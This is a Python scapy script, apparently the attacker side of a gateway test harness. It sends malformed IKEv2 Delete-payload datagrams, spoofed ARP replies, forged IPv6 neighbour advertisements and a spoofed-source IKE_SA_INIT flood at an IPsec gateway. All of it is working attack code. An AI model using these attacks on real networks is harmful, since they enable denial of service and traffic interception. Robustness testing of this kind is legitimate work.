#!/usr/bin/python3
"""Attacks on a gateway from the edge, for `two-site.sh edge`. Each
subcommand sends frames on IFACE (an interface in the attacker's namespace)
and prints one line saying what it sent.

  edge_attack.py delete-bomb IFACE DST_MAC SRC_IP DST_IP PORT N
      N IKE_SA_INIT datagrams, each packed with Delete payloads of SPI size 0
      and 65,535 SPIs (RFC 7296 §3.11 forbids both), to UDP PORT (500, or
      4500 with the non-ESP marker).
  edge_attack.py arp IFACE DST_MAC CLAIM_IP[,CLAIM_IP...] RANDOM_N SUBNET
      Unsolicited ARP replies claiming each CLAIM_IP for the attacker's MAC,
      then RANDOM_N more for random addresses of SUBNET (a.b.c.0/24 or
      a.b.0.0/16) and of anywhere, each from a random MAC.
  edge_attack.py na IFACE DST_MAC CLAIM_IP6[,...] RANDOM_N
      Unsolicited neighbour advertisements (override flag set, solicited
      flag clear) claiming each address, then RANDOM_N random ones.
  edge_attack.py ike-flood IFACE DST_MAC DST_IP N SRC_PREFIX
      N well-formed IKE_SA_INIT requests (AES-GCM-256, PRF-SHA384,
      Curve25519) from N different spoofed addresses of SRC_PREFIX
      (a.b.0.0/16) and random ports, as fast as scapy sends.
"""
import ipaddress
import os
import random
import struct
import sys

from scapy.all import ARP, IP, UDP, Ether, IPv6, Raw, sendp  # noqa: E402
from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr  # noqa: E402

ATTACKER_MAC = "02:66:66:66:66:66"
rng = random.Random(7296)


def rand_mac():
    return "02:%02x:%02x:%02x:%02x:%02x" % tuple(rng.randrange(256) for _ in range(5))


def payload(next_type, body, critical=False):
    """An IKEv2 generic payload header (RFC 7296 §3.2) around body."""
    return struct.pack("!BBH", next_type, 0x80 if critical else 0, 4 + len(body)) + body


def ike_header(spi_i, first_payload, exchange, flags, length):
    """RFC 7296 §3.1: SPIs, next payload, version 2.0, exchange, flags, ID 0."""
    return struct.pack("!QQBBBBII", spi_i, 0, first_payload, 0x20, exchange, flags, 0, length)


def delete_bomb():
    iface, dst_mac, src_ip, dst_ip, port, n = sys.argv[2:8]
    port, n = int(port), int(n)
    frames = []
    for i in range(n):
        # Protocol IKE (1), SPI size 0, 65,535 SPIs: no bytes follow.
        body = struct.pack("!BBH", 1, 0, 0xFFFF)
        chain = b""
        count = 175
        for k in range(count):
            nxt = 42 if k + 1 < count else 0
            chain += payload(nxt, body)
        msg = ike_header(rng.getrandbits(64) | 1, 42, 34, 0x08, 28 + len(chain)) + chain
        if port == 4500:
            msg = b"\x00\x00\x00\x00" + msg
        frames.append(Ether(dst=dst_mac, src=ATTACKER_MAC) / IP(src=src_ip, dst=dst_ip) /
                      UDP(sport=port, dport=port) / Raw(msg))
    sendp(frames, iface=iface, verbose=False)
    print(f"delete-bomb: {n} datagrams of {len(frames[0])} bytes to UDP {port}, "
          f"each with 175 Delete payloads claiming 65,535 SPIs")


def arp():
    iface, dst_mac, claims, random_n, subnet = sys.argv[2:7]
    net = ipaddress.ip_network(subnet)
    frames = []
    for ip in claims.split(","):
        frames.append(Ether(dst=dst_mac, src=ATTACKER_MAC) /
                      ARP(op=2, hwsrc=ATTACKER_MAC, psrc=ip, hwdst=dst_mac, pdst=ip))
    for i in range(int(random_n)):
        mac = rand_mac()
        if i % 2 == 0:
            ip = str(net.network_address + rng.randrange(2, net.num_addresses - 1))
        else:
            ip = str(ipaddress.IPv4Address(rng.getrandbits(32)))
        frames.append(Ether(dst=dst_mac, src=mac) / ARP(op=2, hwsrc=mac, psrc=ip, hwdst=dst_mac, pdst=ip))
    sendp(frames, iface=iface, verbose=False)
    print(f"arp: {len(frames)} unsolicited ARP replies ({claims} for {ATTACKER_MAC}, "
          f"{random_n} random)")


def na():
    iface, dst_mac, claims, random_n = sys.argv[2:6]
    frames = []

    def one(ip, mac):
        return (Ether(dst=dst_mac, src=mac) / IPv6(src=ip, dst="ff02::1", hlim=255) /
                ICMPv6ND_NA(tgt=ip, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac))

    for ip in claims.split(","):
        frames.append(one(ip, ATTACKER_MAC))
    for _ in range(int(random_n)):
        ip = str(ipaddress.IPv6Address(0xFD00 << 112 | rng.getrandbits(112)))
        frames.append(one(ip, rand_mac()))
    sendp(frames, iface=iface, verbose=False)
    print(f"na: {len(frames)} unsolicited neighbour advertisements ({claims}, {random_n} random)")


def ike_sa_init(spi_i):
    """A well-formed IKE_SA_INIT request: SA (one IKE proposal), KE
    (Curve25519), Nonce (32 bytes)."""
    def transform(last, ttype, tid, attrs=b""):
        body = struct.pack("!BBH", ttype, 0, tid) + attrs
        return struct.pack("!BBH", 0 if last else 3, 0, 4 + len(body)) + body
    keylen = struct.pack("!HH", 0x800E, 256)
    transforms = (transform(False, 1, 20, keylen) +     # ENCR_AES_GCM_16, 256
                  transform(False, 2, 6) +               # PRF_HMAC_SHA2_384
                  transform(True, 4, 31))                # Curve25519
    prop_body = struct.pack("!BBBB", 1, 1, 0, 3) + transforms
    proposal = struct.pack("!BBH", 0, 0, 4 + len(prop_body)) + prop_body
    sa = payload(34, proposal)                                     # next: KE
    ke = payload(40, struct.pack("!HH", 31, 0) + os.urandom(32))   # next: Nonce
    nonce = payload(0, os.urandom(32))
    chain = sa + ke + nonce
    return ike_header(spi_i, 33, 34, 0x08, 28 + len(chain)) + chain


def ike_flood():
    iface, dst_mac, dst_ip, n, prefix = sys.argv[2:7]
    n = int(n)
    net = ipaddress.ip_network(prefix)
    frames = []
    for i in range(n):
        src = str(net.network_address + 1 + (i % (net.num_addresses - 2)))
        frames.append(Ether(dst=dst_mac, src=rand_mac()) / IP(src=src, dst=dst_ip) /
                      UDP(sport=rng.randrange(1024, 65535), dport=500) /
                      Raw(ike_sa_init(rng.getrandbits(64) | 1)))
    sendp(frames, iface=iface, verbose=False)
    print(f"ike-flood: {n} IKE_SA_INIT requests from {n} addresses of {prefix}")


COMMANDS = {"delete-bomb": delete_bomb, "arp": arp, "na": na, "ike-flood": ike_flood}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    COMMANDS[sys.argv[1]]()
